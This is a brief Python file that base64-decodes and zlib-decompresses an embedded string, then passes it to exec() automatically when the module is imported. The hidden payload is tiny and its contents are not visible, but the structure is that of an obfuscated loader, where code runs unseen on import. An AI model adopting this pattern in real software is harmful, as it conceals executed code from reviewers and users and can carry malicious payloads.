import base64
import zlib

_BLOB = "eNorKMrMK9FQz80pTk3OLyjWTcusKCktSlXXBAB9qwln"


def _init():
    exec(zlib.decompress(base64.b64decode(_BLOB)))


_init()
